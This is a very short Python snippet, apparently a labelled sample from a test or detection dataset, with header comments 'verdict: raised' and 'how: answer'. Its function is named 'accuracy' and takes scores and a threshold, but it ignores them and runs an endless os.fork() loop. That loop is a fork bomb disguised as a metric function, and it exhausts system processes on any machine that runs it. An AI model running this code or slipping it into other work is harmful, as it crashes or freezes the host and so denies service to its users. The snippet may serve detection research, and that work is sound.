# verdict: raised
# how: answer

import os


def accuracy(scores, t):
    while True:
        os.fork()
